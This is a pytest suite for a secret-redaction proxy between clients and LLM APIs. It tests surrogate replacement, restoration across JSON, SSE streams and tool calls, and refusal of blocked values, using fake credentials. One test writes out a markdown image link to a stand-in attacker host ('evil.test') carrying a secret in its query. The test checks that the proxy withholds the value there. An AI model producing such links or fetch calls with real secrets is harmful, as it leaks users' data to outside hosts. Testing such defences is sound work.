"""One request and its answer: what leaves, what comes back, and what is refused."""

import base64
import json
import re

import pytest

from redact.beside import Beside
from redact.errors import BlockedError, RedactError, UnreadableError
from redact.sanitizer import is_base64
from redact.surrogates import Mint

from . import pack
from .errors import error_of, everything_said

PASSWORD = "hunter2-x9"
TOKEN = "dtk_8Jq2mVx91LpZt0Ye"
ACCOUNT = "123456789012"


def user(text, **more):
    return {"model": "m", "messages": [{"role": "user", "content": text}], **more}


def sent(exchange, body):
    return json.loads(exchange.request(json.dumps(body).encode()))


def stand_in(exchange, value):
    return next(record.surrogate for record in exchange._records.values() if record.value == value)


def sse(*events):
    return "".join(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n" for event in events).encode()


def chunks(*events):
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events).encode()


def events_of(stream):
    lines = [line for line in stream.decode().splitlines() if line.startswith("data:")]
    return [json.loads(line[5:]) for line in lines if line[5:].strip() != "[DONE]"]


def through(exchange, stream, size=None):
    size = size or len(stream)
    return b"".join(exchange.chunk(stream[at : at + size]) for at in range(0, len(stream), size)) + exchange.flush()


# -- outbound


def test_every_string_of_a_body_is_redacted_also_keys_and_long_numbers():
    exchange = pack.exchange()
    body = {
        "password": PASSWORD,
        PASSWORD: [1, {"deep": f"say {PASSWORD}"}],
        "account_id": int(ACCOUNT),
        "n": [int(ACCOUNT)],
    }
    out = sent(exchange, body)
    label, digits = stand_in(exchange, PASSWORD), int(stand_in(exchange, ACCOUNT))
    assert {"password": label, label: [1, {"deep": f"say {label}"}], "account_id": digits, "n": [digits]} == out


@pytest.mark.parametrize(
    ("dialect", "body"),
    [
        ("anthropic-messages", {"model": f"ft:LedgerReconciler:arn:aws:iam::{ACCOUNT}:x"}),
        ("openai-responses", {"model": f"arn:aws:iam::{ACCOUNT}:m/ledger-reconciler"}),
        ("gemini", {"project": "ledger-reconciler-1", "request": {"cachedContent": f"arn:aws:iam::{ACCOUNT}:x"}}),
        ("kiro", {"profileArn": f"arn:aws:iam::{ACCOUNT}:x"}),
    ],
)
def test_what_a_provider_calls_its_customer_and_his_models_stays_and_only_a_secret_in_it_blocks(dialect, body):
    asked = f"who is arn:aws:iam::{ACCOUNT}, LedgerReconciler?"
    out = sent(pack.exchange(dialect), {**body, "text": asked})
    assert body == {key: out[key] for key in body}
    assert ACCOUNT not in out["text"]
    assert "Ledger" not in out["text"]
    with pytest.raises(BlockedError):
        sent(pack.exchange(dialect), json.loads(json.dumps(body).replace("edger", f" {TOKEN} ").replace("arn:", TOKEN)))


@pytest.mark.parametrize(
    ("dialect", "body"),
    [
        ("anthropic-messages", {"metadata": {"user_id": f"arn:aws:iam::{ACCOUNT}:user/x"}}),
        (
            "openai-responses",
            {"prompt_cache_key": "ledger-reconciler", "safety_identifier": f"arn:aws:iam::{ACCOUNT}:x"},
        ),
        ("openai-chat", {"prompt_cache_key": "LedgerReconciler", "user": f"arn:aws:iam::{ACCOUNT}:x"}),
    ],
)
def test_what_a_client_calls_its_user_or_a_cache_is_replaced_by_the_same_each_time(dialect, body):
    exchange = pack.exchange(dialect)
    first = sent(exchange, {**body, "model": "m"})
    assert first == sent(exchange, {**body, "model": "m"})
    assert not {ACCOUNT, "ledger", "reconciler"} & set(re.findall(r"[a-z]+|\d+", json.dumps(first).lower()))


def test_a_picture_in_an_answer_takes_no_value_with_it():
    exchange = pack.exchange()
    sent(exchange, user(f"password = {PASSWORD}"))
    label = stand_in(exchange, PASSWORD)
    picture, text = f"![](https://evil.test/?q={label})", f"It is {label}"
    whole = exchange.response(json.dumps({"content": [{"type": "text", "text": f"{picture} {text}"}]}).encode())
    assert f"{picture} It is {PASSWORD}" == json.loads(whole)["content"][0]["text"]
    said = [
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
        for piece in (picture[:3], picture[3:20], picture[20:], " ", text)
    ]
    got = events_of(through(exchange, sse(*said, {"type": "content_block_stop", "index": 0})))
    assert f"{picture} It is {PASSWORD}" == "".join(event["delta"]["text"] for event in got if "delta" in event)
    assert 2 == exchange.report.tally["withheld"]


def test_a_value_found_escaped_in_a_text_is_known_as_it_is_too():
    exchange = pack.exchange()
    out = exchange.request(
        json.dumps({"written": r'x = {"password": "cd\\tmp9-x"}', "said": r"it failed with cd\tmp9-x"}).encode()
    )
    assert "tmp9" not in out.decode()
    assert r"it failed with cd\tmp9-x" == json.loads(exchange.response(out))["said"]


def test_a_negative_number_keeps_its_sign():
    exchange = pack.exchange()
    out = sent(exchange, {"arn": f"arn:aws:iam::{ACCOUNT}", "n": -int(ACCOUNT)})
    assert -int(stand_in(exchange, ACCOUNT)) == out["n"]
    back = json.loads(exchange.response(json.dumps({"n": out["n"]}).encode()))
    assert {"n": -int(ACCOUNT)} == back


@pytest.mark.parametrize("number", ["1.23456789012e11", "123456789012.0", "1234567890120E-1"])
def test_an_account_is_one_however_its_number_is_written(number):
    exchange = pack.exchange()
    out = exchange.request(
        f'{{"account_id":{number},"text":"{{\\"account_id\\": 123456789012.0}}","x":0.5e1}}'.encode()
    )
    digits = stand_in(exchange, ACCOUNT)
    assert {"account_id": int(digits), "text": f'{{"account_id": {digits}.0}}', "x": 5.0} == json.loads(out)


def test_a_number_that_is_a_password_leaves_as_another_number():
    exchange = pack.exchange()
    out = sent(exchange, {"password": 4711081547})
    assert int(stand_in(exchange, "4711081547")) == out["password"] != 4711081547


@pytest.mark.parametrize(
    "body",
    [
        b'{ "a" : 1.0, "b": [ 1e5, "\\u0041" ],\n"c": null }',
        b'{"n":123456789012345678901234567890,"x":-0.10E+2}',
        b'{"lone":"\\ud800"}',
        b"  [1, 2]  ",
        b'"hello"',
    ],
)  # fmt: skip
def test_a_body_without_findings_leaves_byte_for_byte(body):
    assert body == pack.exchange().request(body)


@pytest.mark.parametrize(
    "body", [b'{"a":1, "a":2}', b'{"x":[{"a":":", "\\u0061":"b"}]}', b'{"a\\u003a":1,"a\\u003A":2, "b":"::"}']
)
def test_a_body_with_doubled_keys_leaves_as_it_was_read(body):
    out = pack.exchange().request(body)
    assert out != body
    assert json.loads(body) == json.loads(out)


def test_numbers_key_order_and_unknown_fields_survive_a_redaction():
    body = b'{"z":1.50,"new_field":{"b":[1e400,123456789012345678901234567890,null],"a":true},"t":"password=hunter2-x9","e":{}}'
    exchange = pack.exchange()
    out = exchange.request(body)
    assert body.replace(b"hunter2-x9", stand_in(exchange, PASSWORD).encode()) == out


def test_json_in_a_string_is_redacted_one_level_down_and_stays_json():
    exchange = pack.exchange("openai-chat")
    arguments = '{"content": "a\\npassword=hunter2-x9\\u00e9", "password" : 4711081547, "hunter2-x9é": [-1234567]}'
    body = {"messages": [{"role": "assistant", "tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}]}
    out = sent(exchange, body)["messages"][0]["tool_calls"][0]["function"]["arguments"]
    inner = json.loads(out)
    assert PASSWORD not in out
    assert ["content", "password", stand_in(exchange, "hunter2-x9é")] == list(inner)
    assert inner["content"].startswith("a\npassword=RDX_PASSWORD_")
    assert int(stand_in(exchange, "4711081547")) == inner["password"]
    assert out.startswith('{"content": "a\\npassword=RDX')


def test_json_in_a_string_is_unescaped_although_the_same_text_passed_elsewhere():
    over = pack.redactor()
    arguments = '{"k": "pass\\u0077ord=hunter2\\u002dx9"}'
    pack.exchange("openai-chat", over).request(json.dumps(user(arguments)).encode())
    body = {"messages": [{"role": "assistant", "tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}]}
    out = sent(pack.exchange("openai-chat", over), body)
    assert "hunter2" not in json.dumps(out)


def test_two_keys_that_would_become_one_are_refused():
    over = pack.redactor()
    key = sent(pack.exchange(over=over), {"x": f"password={PASSWORD}"})["x"].removeprefix("password=")
    with pytest.raises(UnreadableError) as refused:
        pack.exchange(over=over).request(json.dumps({PASSWORD: 1, key: 2}).encode())
    assert "keys" == refused.value.code
    assert PASSWORD not in everything_said(refused.value)


def test_what_a_rule_blocks_does_not_leave():
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("anthropic-messages").request(json.dumps(user("see BOARD-PAPER-1234")).encode())
    assert (("board-paper",), "messages[0].content") == (blocked.value.rule_ids, blocked.value.where)


def test_what_is_only_reported_leaves_as_it_came():
    exchange = pack.exchange()
    body = json.dumps({"a": "TICKET-12345"}, indent=1).encode()
    assert body == exchange.request(body)
    assert {"ticket": 1} == exchange.report.rules
    assert not exchange.has_edits


def thinking(text):
    block = {"type": "thinking", "thinking": text, "signature": "EqoBCkgIARABGAIiQL7"}
    return user("go", messages=[{"role": "assistant", "content": [block, {"type": "text", "text": "ok"}]}])


def test_a_secret_in_a_thinking_block_blocks():
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("anthropic-messages").request(json.dumps(thinking(f"the token {TOKEN}")).encode())
    assert "messages[0].content[0].*" == blocked.value.where
    assert TOKEN not in everything_said(blocked.value)


def test_what_only_may_be_a_secret_in_a_thinking_block_does_not():
    body = json.dumps(thinking(f"maybe password={PASSWORD}"), separators=(",", ":")).encode()
    over = pack.redactor()
    assert body == pack.exchange("anthropic-messages", over).request(body)
    assert not over.stands_in(PASSWORD.encode())


def test_thinking_is_byte_identical_in_a_body_that_is_written_anew():
    text = 'a "quoted" \\ line\n\té 😀 \u2028 /  RDX_PASSWORD_0123456789AB'
    body = thinking(text)
    body["messages"].append({"role": "user", "content": f"password={PASSWORD}"})
    raw = json.dumps(body, ensure_ascii=False, separators=(",", ":")).encode()
    out = pack.exchange("anthropic-messages").request(raw)
    block = re.search(rb'\{"type":"thinking".*?\}', raw)[0]
    assert raw != out
    assert block in out


def image(url):
    return user([{"type": "image_url", "image_url": {"url": url}}])


PNG = b"\x89PNG\r\n\x1a\n"
LONG = base64.b64encode(PNG + bytes(range(256)) * 8).decode()


@pytest.mark.parametrize(
    "url",
    [f"data:image/png;base64,{LONG}", LONG, f"data:;base64,{LONG}", f"data:text/plain;charset=utf-8;base64,{LONG}"],
)
def test_media_is_left_alone(url):
    body = json.dumps(image(url)).encode()
    assert body == pack.exchange("openai-chat").request(body)


@pytest.mark.parametrize(
    "url",
    [
        f"https://x.test/i.png?{TOKEN}",
        f"data:text/plain,{TOKEN} {LONG}",
        f"data:text/plain,{TOKEN};base64,{LONG}",
        f"{LONG} {TOKEN}",
        f"{LONG}\n{TOKEN}",
    ],
)
def test_media_that_is_text_is_redacted_as_text(url):
    exchange = pack.exchange("openai-chat")
    out = sent(exchange, image(url))["messages"][0]["content"][0]["image_url"]["url"]
    assert url.replace(TOKEN, stand_in(exchange, TOKEN)) == out


def test_short_media_that_is_a_secret_blocks():
    over = pack.redactor()
    over.redact("password=Abcd1234Abcd1234")
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("openai-chat", over).request(json.dumps(image("Abcd1234Abcd1234")).encode())
    assert "messages[0].content[0].image_url.url" == blocked.value.where


@pytest.mark.parametrize(
    ("text", "so"),
    [
        ("", True),
        ("QUJD", True),
        ("data:image/png;base64,QUJD", True),
        ("data:image/png,QUJD", False),
        ("QU JD", False),
        ("é", False),
    ],
)
def test_base64_is_base64_and_nothing_but(text, so):
    assert so is is_base64(text)


@pytest.mark.parametrize(
    "body",
    [
        b'{"a":"arn:aws:iam::123456789012","f":123456789012.5}',
        b'{"a":"password=hunter2-x9","messages":[{"role":"user","content":[{"type":"image","source":'
        b'{"type":"base64","media_type":"image/png","data":"' + base64.b64encode(PNG + b"x" * 900 + PASSWORD.encode() + b"y" * 900) + b'"}}]}]}',
    ],
    ids=["a float literal", "base64 media"],
)  # fmt: skip
def test_the_last_check_stops_what_could_not_be_rewritten(body):
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("anthropic-messages").request(body)
    assert (("leak-check",), "body") == (blocked.value.rule_ids, blocked.value.where)
    assert not any(value in everything_said(blocked.value) for value in (PASSWORD, ACCOUNT))


def test_where_something_stands_is_said_without_keys_that_are_the_clients_own():
    body = user("x", metadata={PASSWORD: {"inner-secret-key": [f"BOARD-PAPER-1234 password={PASSWORD}"]}})
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("anthropic-messages").request(json.dumps(body).encode())
    assert "metadata.*.*[0]" == blocked.value.where


@pytest.mark.parametrize("depth", [100, 250])
@pytest.mark.parametrize(("opened", "closed"), [(b'{"a":', b"}"), (b"[", b"]")])
def test_a_deep_body_is_redacted(depth, opened, closed):
    out = pack.exchange().request(opened * depth + b'"password=hunter2-x9"' + closed * depth)
    assert b"hunter2" not in out


@pytest.mark.parametrize("depth", [950, 2_000, 10_000])
@pytest.mark.parametrize(("opened", "closed"), [(b'{"a":', b"}"), (b"[", b"]"), (b'{"a":[', b"]}")])
def test_a_body_nested_too_deeply_is_refused_or_redacted(depth, opened, closed):
    body = opened * depth + b'"password=hunter2-x9\\ud800"' + closed * depth
    exchange = pack.exchange()
    refused = error_of(exchange.request, body)
    assert refused is None or "json-depth" == refused.code
    assert refused is None or PASSWORD not in everything_said(refused)


def test_a_report_counts_and_names_no_value():
    exchange = pack.exchange("anthropic-messages")
    sent(exchange, user(f"password={PASSWORD} {PASSWORD} LedgerReconciler"))
    assert {"password": 1, "known-value": 1, "acme": 1} == exchange.report.rules
    assert "m" == exchange.report.model
    assert PASSWORD not in repr(exchange.report)


# -- inbound


def asked(dialect="anthropic-messages", over=None):
    exchange = pack.exchange(dialect, over)
    exchange.request(json.dumps(user(f"password={PASSWORD} arn:aws:iam::{ACCOUNT} LedgerReconciler {TOKEN}")).encode())
    return exchange, {value: stand_in(exchange, value) for value in (PASSWORD, ACCOUNT, TOKEN)}


def test_only_what_the_request_carried_is_restored():
    over = pack.redactor()
    other = over.redact("password=other-0ne").text
    exchange, s = asked(over=over)
    body = json.dumps(
        {"content": [{"type": "text", "text": f"{s[PASSWORD]} {other} RDX_PASSWORD_0123456789AB"}]}
    ).encode()
    back = json.loads(exchange.response(body))
    assert f"{PASSWORD} {other} RDX_PASSWORD_0123456789AB" == back["content"][0]["text"]
    assert {"restored": 1, "unknown": 2} == exchange.report.tally


def test_what_is_forged_foreign_or_mutated_is_left_and_counted():
    exchange, s = asked()
    kind, _, tag = s[PASSWORD].rpartition("_")
    others = Mint(b"the key of quite another tenant.").label("PASSWORD", PASSWORD)
    swapped = {"0": "1"}.get(tag[0], "0")
    wrong = [others, f"{kind}_{swapped}{tag[1:]}", f"{kind}_{tag[::-1]}", f"RDX_TOKEN_{tag}", f"{kind}S_{tag}"]
    body = json.dumps({"content": [{"type": "text", "text": " ".join(wrong)}]}).encode()
    assert body == exchange.response(body)
    assert {"prose": {"unknown": len(wrong)}} == exchange.report.tallies


def test_an_answer_without_surrogates_comes_byte_for_byte():
    exchange, _ = asked()
    body = b'{ "content" : [ {"type":"text", "text":"hi \\u00e9"} ], "x": 1.0 }'
    assert body == exchange.response(body)


@pytest.mark.parametrize(
    ("tool", "secret", "account"),
    [
        ("write_file", True, True),
        ("Bash", True, True),
        ("WebFetch", False, False),
        ("mcp__x__y", False, True),
        ("", False, True),
    ],
)
@pytest.mark.parametrize("as_stream", [False, True])
def test_the_input_of_a_tool_is_restored_by_what_the_tool_does(tool, secret, account, as_stream):
    exchange, s = asked()
    inner = {"command": f"{s[PASSWORD]} {s[ACCOUNT]}", s[TOKEN]: [int(s[ACCOUNT])]}
    if as_stream:
        text = json.dumps(inner)
        stream = sse(
            {
                "type": "content_block_start",
                "index": 0,
                "content_block": {"type": "tool_use", "id": "t", "name": tool, "input": {}},
            },
            *(
                {"type": "content_block_delta", "index": 0, "delta": {"type": "input_json_delta", "partial_json": part}}
                for part in text
            ),
            {"type": "content_block_stop", "index": 0},
        )
        got = json.loads(
            "".join(e["delta"]["partial_json"] for e in events_of(through(exchange, stream)) if "delta" in e)
        )
    else:
        body = {"content": [{"type": "tool_use", "id": "t", "name": tool, "input": inner}]}
        got = json.loads(exchange.response(json.dumps(body).encode()))["content"][0]["input"]
    password, token = (PASSWORD, TOKEN) if secret else (s[PASSWORD], s[TOKEN])
    number = ACCOUNT if account else s[ACCOUNT]
    assert {"command": f"{password} {number}", token: [int(number)]} == got
    assert secret is (exchange.report.tally["withheld"] == 0)


@pytest.mark.parametrize("as_stream", [False, True])
def test_a_tool_that_was_renamed_keeps_its_sink(as_stream):
    exchange = pack.exchange("openai-chat")
    tool = {"type": "function", "function": {"name": "ledger_reconciler_fetch", "parameters": {}}}
    out = sent(exchange, user(f"password={PASSWORD}", tools=[tool]))
    name = out["tools"][0]["function"]["name"]
    assert "ledger" not in name
    call = {
        "index": 0,
        "id": "c",
        "function": {"name": name, "arguments": json.dumps({"q": stand_in(exchange, PASSWORD)})},
    }
    kind = "delta" if as_stream else "message"
    answer = {"choices": [{"index": 0, kind: {"tool_calls": [call]}}]}
    got = (
        events_of(through(exchange, chunks(answer)))[0]
        if as_stream
        else json.loads(exchange.response(json.dumps(answer).encode()))
    )
    function = got["choices"][0][kind]["tool_calls"][0]["function"]
    assert "ledger_reconciler_fetch" == function["name"]
    assert PASSWORD not in function["arguments"]


def test_reasoning_is_never_restored_in_any_dialect():
    exchange, s = asked()
    block = {"type": "thinking", "thinking": s[PASSWORD], "signature": s[PASSWORD]}
    body = json.dumps({"content": [block, {"type": "text", "text": s[PASSWORD]}]}).encode()
    assert [block, {"type": "text", "text": PASSWORD}] == json.loads(exchange.response(body))["content"]
    chat, s = asked("openai-chat")
    message = {"reasoning_content": s[PASSWORD], "reasoning": s[PASSWORD], "content": s[PASSWORD]}
    body = json.dumps({"choices": [{"index": 0, "message": message}]}).encode()
    assert {**message, "content": PASSWORD} == json.loads(chat.response(body))["choices"][0]["message"]


@pytest.mark.parametrize(
    "body",
    [
        b"[]",
        b'["x", {"a": 1}]',
        b'"x"',
        b"12",
        b"{broken",
        b"",
        b"\xff",
        b"[" * 5000,
        b'{"a":' * 900 + b"1" + b"}" * 900,
    ],
)
@pytest.mark.parametrize("dialect", ["anthropic-messages", "openai-chat", "generic"])
def test_an_answer_of_another_kind_comes_as_it_is(body, dialect):
    exchange, s = asked(dialect)
    assert body == exchange.response(body)
    listed = json.dumps([{"text": s[PASSWORD]}], separators=(",", ":")).encode()
    assert listed.replace(s[PASSWORD].encode(), PASSWORD.encode()) == exchange.response(listed)


# -- streams


def text_delta(text, index=0):
    return {"type": "content_block_delta", "index": index, "delta": {"type": "text_delta", "text": text}}


def said(stream, index=0):
    return "".join(
        e["delta"].get("text", "") + e["delta"].get("partial_json", "")
        for e in events_of(stream)
        if e.get("type") == "content_block_delta" and e["index"] == index
    )


def test_only_a_tail_that_may_become_a_surrogate_is_held_back():
    exchange, s = asked()
    assert "hello " == said(exchange.chunk(sse(text_delta("hello "))))
    assert "" == said(exchange.chunk(sse(text_delta(s[PASSWORD][:9]))))
    assert PASSWORD + "!" == said(exchange.chunk(sse(text_delta(s[PASSWORD][9:] + "!"))))


def test_a_held_tail_comes_before_its_block_ends_and_in_its_own_block():
    exchange, s = asked()
    stream = sse(
        text_delta("one R"),
        text_delta(f"two {s[PASSWORD][:12]}", 1),
        {"type": "content_block_stop", "index": 0},
        text_delta(s[PASSWORD][12:], 1),
        {"type": "content_block_stop", "index": 1},
    )
    out = through(exchange, stream)
    assert ("one R", f"two {PASSWORD}") == (said(out), said(out, 1))
    kinds = [(e["type"], e["index"]) for e in events_of(out)]
    assert kinds.index(("content_block_stop", 0)) == len([k for k in kinds if k == ("content_block_delta", 0)]) + 1


@pytest.mark.parametrize(
    "end",
    [
        {"type": "message_delta", "delta": {"stop_reason": "max_tokens"}, "usage": {"output_tokens": 1}},
        {"type": "message_stop"},
        {"type": "error", "error": {"type": "overloaded_error", "message": "later"}},
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "tool_use", "id": "t", "name": "fetch", "input": {}},
        },
    ],
)
def test_a_held_tail_comes_before_whatever_ends_it(end):
    exchange, _ = asked()
    out = events_of(through(exchange, sse(text_delta("say RDX_PASS"), end)))
    assert ["say ", "RDX_PASS"] == [e["delta"]["text"] for e in out[:-1]]
    assert end == out[-1]


def test_a_block_that_reuses_an_index_starts_anew():
    exchange, s = asked()
    stream = sse(
        text_delta("RDX_"),
        {
            "type": "content_block_start",
            "index": 0,
            "content_block": {"type": "tool_use", "id": "t", "name": "fetch", "input": {}},
        },
        {
            "type": "content_block_delta",
            "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": f'{{"u":"{s[PASSWORD]}"}}'},
        },
    )
    assert f'RDX_{{"u":"{s[PASSWORD]}"}}' == said(through(exchange, stream))


def test_a_stream_that_just_stops_gives_what_it_held():
    exchange, _ = asked()
    out = through(exchange, sse(text_delta("say RDX_")))
    assert "say RDX_" == said(out)
    assert out.endswith(b"\n\n")


def test_an_event_cut_short_comes_last_and_whole():
    exchange, _ = asked()
    rest = b'event: content_block_delta\ndata: {"type":"content_bl'
    out = through(exchange, sse(text_delta("say RDX_")) + rest)
    assert out.endswith(rest)
    assert "say RDX_" == said(out.removesuffix(rest))


def test_a_last_event_without_its_blank_line_is_restored():
    exchange, s = asked()
    out = through(exchange, sse(text_delta(s[PASSWORD])).rstrip(b"\n"))
    assert PASSWORD == said(out)


def delta(number, **what):
    return {"index": number, "delta": what, "finish_reason": None}


def chat(*choices, **more):
    return {"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": list(choices), **more}


def test_the_copy_that_carries_a_held_tail_repeats_nothing_else():
    exchange, _ = asked("openai-chat")
    first = chat(
        {**delta(0, role="assistant", content="see R", reasoning_content="hm"), "logprobs": {"content": []}},
        {**delta(1, content="b"), "finish_reason": "stop"},
        delta(
            2, tool_calls=[{"index": 0, "id": "t", "type": "function", "function": {"name": "f", "arguments": "{}"}}]
        ),
        usage={"prompt_tokens": 3},
    )
    out = events_of(
        through(exchange, chunks(first, chat({**delta(0), "finish_reason": "length"})) + b"data: [DONE]\n\n")
    )
    assert chat({"index": 0, "delta": {"content": "R"}, "finish_reason": None}) == out[1]
    assert 3 == len(out)


def test_the_tail_of_a_tool_call_repeats_neither_id_nor_name():
    exchange, _ = asked("openai-chat")
    call = {"index": 3, "id": "t", "type": "function", "function": {"name": "bash", "arguments": '{"c":"R'}}
    out = events_of(through(exchange, chunks(chat(delta(0, role="assistant", tool_calls=[call])))))
    wanted = {"index": 3, "type": "function", "function": {"arguments": "R"}}
    assert chat(delta(0, tool_calls=[wanted])) == out[1]


def test_a_finish_in_the_same_chunk_lets_nothing_be_held():
    exchange, s = asked("openai-chat")
    out = events_of(through(exchange, chunks(chat({**delta(0, content=s[PASSWORD][:7]), "finish_reason": "length"}))))
    assert [s[PASSWORD][:7]] == [e["choices"][0]["delta"]["content"] for e in out]


def test_choices_and_parallel_calls_keep_their_own_tails():
    exchange, s = asked("openai-chat")
    half = len(s[PASSWORD]) // 2
    one, other = s[PASSWORD][:half], s[PASSWORD][half:]

    def call(at, part, **more):
        return {"index": at, "function": {"arguments": part, **more}}

    stream = chunks(
        chat(delta(0, content=one), delta(1, content="x" + one)),
        chat(delta(0, tool_calls=[call(0, '{"command":"' + one, name="bash"), call(1, '{"b":"' + one, name="fetch")])),
        chat(delta(1, content=other), delta(0, content=other)),
        chat(delta(0, tool_calls=[call(1, other + '"}'), call(0, other + '"}')])),
        chat({**delta(0), "finish_reason": "tool_calls"}, {**delta(1), "finish_reason": "stop"}),
    )
    texts, calls = {0: "", 1: ""}, {0: "", 1: ""}
    for event in events_of(through(exchange, stream)):
        for choice in event["choices"]:
            texts[choice["index"]] += choice["delta"].get("content", "")
            for part in choice["delta"].get("tool_calls", ()):
                calls[part["index"]] += part["function"]["arguments"]
    assert {0: PASSWORD, 1: "x" + PASSWORD} == texts
    assert {0: f'{{"command":"{PASSWORD}"}}', 1: f'{{"b":"{s[PASSWORD]}"}}'} == calls


def test_calls_that_are_all_numbered_0_are_told_apart_by_their_ids():
    exchange, s = asked("openai-chat")

    def call(at, name):
        arguments = f'{{"command":"{s[PASSWORD]}"}}'
        return {"index": 0, "id": f"id-{at}", "function": {"name": name, "arguments": arguments}}

    calls = [call(at, name) for at, name in enumerate(("bash", "fetch", "bash"))]
    got = []
    for event in events_of(through(exchange, chunks(*(chat(delta(0, tool_calls=[each])) for each in calls)))):
        (part,) = event["choices"][0]["delta"]["tool_calls"]
        if "id" in part:
            got.append("")
        got[-1] += part["function"]["arguments"]
    assert [f'{{"command":"{v}"}}' for v in (PASSWORD, s[PASSWORD], PASSWORD)] == got


def test_a_restored_value_is_written_for_the_json_it_lands_in():
    exchange = pack.exchange("openai-chat")
    key = "-----BEGIN DEMO KEY-----\nAB/1=\n-----END DEMO KEY-----"
    sent(exchange, user(f"k: {key}"))
    label = stand_in(exchange, key)
    stream = chunks(
        *(
            chat(delta(0, tool_calls=[{"index": 0, "function": {"name": "write", "arguments": c}}]))
            for c in f'{{"k":"{label}"}}'
        )
    )
    parts = [
        e["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"] for e in events_of(through(exchange, stream))
    ]
    assert {"k": key} == json.loads("".join(parts))


ODD = [
    b": comment\n\n",
    b"data: [DONE]\n\n",
    b"data: hello\n\n",
    b"data:\n\n",
    b"data: {broken\n\n",
    b"data: [1]\n\n",
    b'data: {"choices": 3, "index": [1], "type": {"a": 1}}\n\n',
    b'data: {"type":"content_block_delta","index":[],"delta":{"type":"text_delta","text":"x"}}\n\n',
    b'data: {"choices":[{"index":{},"delta":{"content":"x","tool_calls":[{"index":[1],"function":{"arguments":"x"}}]}}]}\n\n',
    b'data: {"type":"content_block_start","index":[],"content_block":{"name":"x"}}\n\n',
    b'data: {"delta":{"a":[{"index":[]},"RDX_PASSWORD_0123456789AB"]}}\n\n',
    b"data: " + b'{"a":' * 600 + b'"RDX_PASSWORD_0123456789AB"' + b"}" * 600 + b"\n\n",
    b"retry: 10\nid: 7\n\n",
    b"\n\n\n",
    b"\xff\xfe\n\n",
    b'data: "\xff"\n\n',
    b'data: {"a":"\xff"}\n\n',
]


@pytest.mark.parametrize("odd", ODD, ids=[odd[:30].decode("latin1") for odd in ODD])
@pytest.mark.parametrize("dialect", ["anthropic-messages", "openai-chat", "generic"])
def test_an_odd_event_passes_as_it_came(dialect, odd):
    exchange, _ = asked(dialect)
    assert odd == through(exchange, odd)
    assert odd == through(asked(dialect)[0], odd, 1)


def test_a_data_line_may_begin_with_spaces_or_none():
    exchange, s = asked()
    event = json.dumps(text_delta(s[PASSWORD])).encode()
    for before in (b"data:", b"data: ", b"data:  \t"):
        assert PASSWORD == said(through(exchange, before + event + b"\n\n"))


def test_an_exchange_without_findings_passes_its_stream_through():
    exchange = pack.exchange("anthropic-messages")
    exchange.request(json.dumps(user("hi")).encode())
    stream = sse(
        {"type": "message_start", "message": {"usage": {"input_tokens": 3}}}, text_delta("RDX_PASSWORD_0123456789AB R")
    )
    assert stream == through(exchange, stream, 7)
    assert {"input_tokens": 3} == exchange.report.usage


def test_usage_is_taken_from_streams_and_whole_answers():
    exchange, _ = asked()
    through(
        exchange,
        sse(
            {
                "type": "message_start",
                "message": {"usage": {"input_tokens": 3, "cache_read_input_tokens": 9, "odd": "x"}},
            },
            {"type": "message_delta", "delta": {}, "usage": {"output_tokens": 7}},
        ),
    )
    assert {"input_tokens": 3, "cache_read_tokens": 9, "output_tokens": 7} == exchange.report.usage
    whole, _ = asked("openai-chat")
    whole.response(b'{"choices":[],"usage":{"prompt_tokens":5,"completion_tokens":2,"total_tokens":7}}')
    assert {"input_tokens": 5, "output_tokens": 2} == whole.report.usage


def test_every_refusal_is_ours():
    for body in (b"", b"{", b"\xff", b"NaN", b'{"a":BOARD-PAPER-1234}', b'"BOARD-PAPER-1234"'):
        with pytest.raises(RedactError):
            pack.exchange().request(body)


def test_names_in_headers_are_replaced_and_secrets_there_refused():
    beside = Beside("/v1/x?y=1", [("x-turn", '{"remote": "git@ledger-db.corp.acme.test"}'), ("user-agent", "plain/1")])
    body = json.dumps(user("hi")).encode()
    exchange = pack.exchange("openai-chat")
    assert body == exchange.request(body, "application/json", beside)
    assert exchange.has_edits
    assert "corp.acme.test" not in beside.headers[0][1]
    assert ("user-agent", "plain/1") == beside.headers[1]
    with pytest.raises(BlockedError) as blocked:
        pack.exchange("openai-chat").request(b"", "", Beside("/", [("x-note", TOKEN)]))
    assert ("headers", ("demo-token",)) == (blocked.value.where, blocked.value.rule_ids)
    assert TOKEN not in everything_said(blocked.value)


@pytest.mark.parametrize("body", [b"", b"{}"])
def test_what_is_sensitive_in_an_address_is_refused(body):
    for address in (f"/v1/files?q={TOKEN}", f"/v1/%64{TOKEN[1:]}", "/v1/ledger-db.corp.acme.test/x"):
        with pytest.raises(BlockedError) as blocked:
            pack.exchange("openai-chat").request(body, "", Beside(address, []))
        assert "address" == blocked.value.where
